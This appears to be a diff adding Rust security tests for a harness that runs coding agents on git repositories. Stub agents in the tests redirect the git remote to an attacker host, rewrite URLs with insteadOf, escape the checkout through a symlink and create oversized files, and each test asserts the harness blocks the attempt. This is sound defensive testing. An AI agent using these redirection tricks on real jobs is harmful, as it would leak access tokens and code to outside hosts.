@@ -1,0 +1,328 @@
+//! The repository and the agent are hostile input: each test is an attack from the issue
+//! that found it, run against the real worker (in process, or as its own process where memory
+//! is measured).
+
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use serde_json::json;
+
+use crate::support::agents::write_agent;
+use crate::support::git_http::GitHttpServer;
+use crate::support::repo::{git, BareRepo};
+use crate::support::worker::{coding_job, eventually, TestWorker};
+
+const WAIT: Duration = Duration::from_secs(30);
+/// The git token of [`coding_job`].
+const GIT_TOKEN: &str = "ghs_TESTgittoken000000000000000000001";
+
+/// The job's remote on 127.0.0.1 and an attacker's on 127.0.0.2, both real smart-HTTP git
+/// servers that accept the job's token (so a token sent to the attacker would work there).
+struct TwoHosts {
+    _roots: (tempfile::TempDir, tempfile::TempDir),
+    origin: BareRepo,
+    server: GitHttpServer,
+    attacker: GitHttpServer,
+    steal: BareRepo,
+}
+
+impl TwoHosts {
+    fn new() -> Self {
+        let (ours, theirs) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+        let origin = BareRepo::new_in(ours.path(), "repo");
+        let steal = BareRepo::new_in(theirs.path(), "steal");
+        let server = GitHttpServer::start(ours.path(), GIT_TOKEN);
+        let attacker = GitHttpServer::start_on("127.0.0.2", theirs.path(), GIT_TOKEN);
+        Self {
+            _roots: (ours, theirs),
+            origin,
+            server,
+            attacker,
+            steal,
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_that_points_origin_at_another_host_sends_it_nothing_and_its_work_lands_on_the_job_remote(
+) {
+    let hosts = TwoHosts::new();
+    let steal = hosts.attacker.url("steal");
+    let scratch = tempfile::tempdir().unwrap();
+    let s = scratch.path();
+    let agent = write_agent(
+        s,
+        "agent",
+        &format!(
+            "git remote set-url origin {steal}\ngit remote set-url --push origin {steal}\n\
+             echo x > x.txt\ncommit_all 'Work'\ntouch {s}/committed\nwait_for {s}/go\n\
+             echo y > y.txt\ncommit_all 'More work'\nfinish 'done'",
+            s = s.display()
+        ),
+    );
+    let w = TestWorker::start(&agent, |c| {
+        c.job.allowed_hosts = vec!["127.0.0.1".into(), "127.0.0.2".into()];
+        c.job.checkpoint_interval_ms = 50;
+    })
+    .await;
+    w.enqueue(&coding_job(
+        "job-steal",
+        &hosts.server.url("repo"),
+        Some("work/steal"),
+    ))
+    .await;
+    // A checkpoint push after the rewrite goes to the job's remote.
+    eventually("a checkpoint on the job's remote", WAIT, || {
+        hosts.origin.tip("work/steal").is_some()
+    })
+    .await;
+    std::fs::write(s.join("go"), b"").unwrap();
+    let r = w.next_result(WAIT).await;
+    assert_eq!(r["state"], "done", "{r}");
+    assert_eq!(r["result"]["pushed"], true);
+    assert_eq!(
+        hosts.origin.subjects("work/steal")[..2],
+        ["More work", "Work"]
+    );
+    assert!(hosts.server.accepted_attempts() > 0);
+    assert_eq!(
+        hosts.attacker.requests(),
+        0,
+        "the attacker's host was contacted"
+    );
+    assert_eq!(hosts.steal.tip("work/steal"), None);
+    w.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_that_rewrites_the_remote_url_in_git_config_fails_the_job_and_contacts_no_one_else(
+) {
+    let hosts = TwoHosts::new();
+    let ours = hosts.server.url("");
+    let ours = ours.trim_end_matches(".git");
+    let theirs = hosts.attacker.url("");
+    let theirs = theirs.trim_end_matches(".git");
+    let scratch = tempfile::tempdir().unwrap();
+    let agent = write_agent(
+        scratch.path(),
+        "agent",
+        &format!(
+            "git config url.{theirs}.insteadOf {ours}\ngit config url.{theirs}.pushInsteadOf {ours}\n\
+             git config http.followRedirects true\n\
+             echo x > x.txt\ncommit_all 'Work'\nfinish 'done'"
+        ),
+    );
+    let w = TestWorker::start(&agent, |c| {
+        c.job.allowed_hosts = vec!["127.0.0.1".into(), "127.0.0.2".into()];
+    })
+    .await;
+    w.enqueue(&coding_job(
+        "job-insteadof",
+        &hosts.server.url("repo"),
+        Some("work/insteadof"),
+    ))
+    .await;
+    let r = w.next_result(WAIT).await;
+    assert_eq!(r["state"], "failed", "{r}");
+    assert_eq!(r["failureCause"], "git");
+    assert!(r["error"].as_str().unwrap().contains("insteadOf"), "{r}");
+    assert_eq!(hosts.attacker.requests(), 0);
+    assert_eq!(hosts.steal.tip("work/insteadof"), None);
+    w.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_service_directory_through_a_committed_symlink_out_of_the_checkout_is_refused_before_the_agent(
+) {
+    let host = tempfile::tempdir().unwrap();
+    let origin = BareRepo::new();
+    origin.commit_symlink("svc", host.path(), "Link out");
+    let scratch = tempfile::tempdir().unwrap();
+    let ran = scratch.path().join("ran");
+    let agent = write_agent(
+        scratch.path(),
+        "agent",
+        &format!("touch {}\nfinish 'ran'", ran.display()),
+    );
+    let w = TestWorker::start(&agent, |_| {}).await;
+    let mut job = coding_job("job-svc", &origin.url(), Some("work/svc"));
+    job["repo"]["serviceDirectory"] = json!("svc/x/y");
+    w.enqueue(&job).await;
+    let r = w.next_result(WAIT).await;
+    assert_eq!(r["state"], "failed", "{r}");
+    assert_eq!(r["failureCause"], "git");
+    let error = r["error"].as_str().unwrap();
+    assert!(error.contains("outside the checkout"), "{error}");
+    assert!(
+        !host.path().join("x").exists(),
+        "created outside the checkout"
+    );
+    assert!(!ran.exists(), "the agent ran");
+    w.stop().await;
+}
+
+/// Runs `executor-harness run` on `job` with `agent` and returns its JSON lines and its peak
+/// resident memory in KiB (`ru_maxrss` of the waited child).
+fn run_measured(
+    job: &serde_json::Value,
+    agent: &Path,
+    work: &Path,
+    env: &[(&str, &str)],
+) -> (Vec<serde_json::Value>, i64) {
+    let job_path = work.join("job.json");
+    std::fs::write(&job_path, job.to_string()).unwrap();
+    let out_path = work.join("out.jsonl");
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_executor-harness"));
+    cmd.args(["run", "--json"])
+        .arg(&job_path)
+        .env("HARNESS_PI_COMMAND", agent)
+        .env("HARNESS_WORK_DIR", work.join("work"))
+        .stdout(std::fs::File::create(&out_path).unwrap())
+        .stderr(Stdio::null());
+    for (k, v) in env {
+        cmd.env(k, v);
+    }
+    let child = cmd.spawn().unwrap();
+    let mut status = 0;
+    // SAFETY: an all-zero rusage is valid; wait4 fills it for the child we spawned.
+    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+    // SAFETY: waits for our own child; the pointers are valid for the call.
+    let pid = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
+    assert_eq!(pid, child.id() as i32);
+    let lines = std::fs::read_to_string(&out_path)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    (lines, usage.ru_maxrss)
+}
+
+fn result_of(lines: &[serde_json::Value]) -> &serde_json::Value {
+    lines
+        .iter()
+        .find(|l| l["type"] == "result")
+        .expect("a result line")
+}
+
+#[test]
+fn a_2_gb_tracked_file_is_refused_without_being_read_and_the_committed_work_is_still_pushed() {
+    let origin = BareRepo::new();
+    let scratch = tempfile::tempdir().unwrap();
+    // Sparse: the test writes no 2 GB, but whoever reads it reads 2 GB.
+    let agent = write_agent(
+        scratch.path(),
+        "agent",
+        "echo x > x.txt\ncommit_all 'Work'\ntruncate -s 2G README.md\nfinish 'done'",
+    );
+    let job = coding_job("job-2g", &origin.url(), Some("work/2g"));
+    let (lines, peak_kib) = run_measured(&job, &agent, scratch.path(), &[]);
+    eprintln!("FIGURE big-file peak_rss_kib={peak_kib} file_bytes=2147483648");
+    let r = result_of(&lines);
+    assert_eq!(r["state"], "failed", "{r}");
+    assert_eq!(r["failureCause"], "git");
+    let error = r["error"].as_str().unwrap();
+    assert!(
+        error.contains("'README.md' is 2147483648 bytes") && error.contains("git.max_file_bytes"),
+        "{error}"
+    );
+    // The agent's own commit is kept for a retry; the big edit never left the checkout.
+    assert_eq!(origin.subjects("work/2g")[0], "Work");
+    assert_eq!(origin.file_at("work/2g", "README.md").unwrap(), "hello\n");
+    // Memory does not follow the file: the bound is a tenth of it.
+    assert!(
+        peak_kib < 200 * 1024,
+        "peak RSS {peak_kib} KiB for a 2 GiB file"
+    );
+}
+
+#[test]
+fn a_committed_file_over_the_limit_is_refused_before_any_push_packs_it() {
+    let origin = BareRepo::new();
+    let scratch = tempfile::tempdir().unwrap();
+    let agent = write_agent(
+        scratch.path(),
+        "agent",
+        "head -c 3145728 /dev/zero > blob.bin\ncommit_all 'Add a blob'\nfinish 'done'",
+    );
+    let job = coding_job("job-blob", &origin.url(), Some("work/blob"));
+    let (lines, _) = run_measured(
+        &job,
+        &agent,
+        scratch.path(),
+        &[("HARNESS_GIT_MAX_FILE_BYTES", "1048576")],
+    );
+    let r = result_of(&lines);
+    assert_eq!(r["state"], "failed", "{r}");
+    assert_eq!(r["failureCause"], "git");
+    assert!(
+        r["error"]
+            .as_str()
+            .unwrap()
+            .contains("'blob.bin' is 3145728 bytes, over the 1048576-byte limit"),
+        "{r}"
+    );
+    assert_eq!(origin.tip("work/blob"), None, "nothing was pushed");
+}
+
+/// A completion commit on `main`'s tip dated `days_ago`, recorded at `refs/harness/done/<id>`.
+fn old_completion(origin: &BareRepo, id: &str, days_ago: u64) {
+    let when = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        - days_ago * 86_400;
+    let tree = git(
+        origin.path(),
+        &["hash-object", "-w", "-t", "tree", "/dev/null"],
+    );
+    let out = Command::new("git")
+        .args(["commit-tree", &tree, "-p", "main", "-m"])
+        .arg(format!("{{\"jobId\":\"{id}\"}}"))
+        .current_dir(origin.path())
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "bot")
+        .env("GIT_AUTHOR_EMAIL", "bot@example.com")
+        .env("GIT_COMMITTER_NAME", "bot")
+        .env("GIT_COMMITTER_EMAIL", "bot@example.com")
+        .env("GIT_COMMITTER_DATE", format!("@{when} +0000"))
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let commit = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    git(
+        origin.path(),
+        &["update-ref", &format!("refs/harness/done/{id}"), &commit],
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn completion_refs_older_than_the_max_age_are_pruned_when_the_worker_next_records_one() {
+    let origin = BareRepo::new();
+    for i in 0..5 {
+        old_completion(&origin, &format!("old-{i}"), 30);
+    }
+    old_completion(&origin, "recent", 1);
+    let scratch = tempfile::tempdir().unwrap();
+    let agent = write_agent(
+        scratch.path(),
+        "agent",
+        "echo x > x.txt\ncommit_all 'Work'\nfinish 'done'",
+    );
+    let w = TestWorker::start(&agent, |_| {}).await;
+    w.enqueue(&coding_job("job-prune", &origin.url(), Some("work/prune")))
+        .await;
+    let r = w.next_result(WAIT).await;
+    assert_eq!(r["state"], "done", "{r}");
+    let refs = git(
+        origin.path(),
+        &["for-each-ref", "--format=%(refname)", "refs/harness/done/"],
+    );
+    let refs: Vec<&str> = refs.lines().collect();
+    assert_eq!(
+        refs,
+        ["refs/harness/done/job-prune", "refs/harness/done/recent"]
+    );
+    w.stop().await;
+}
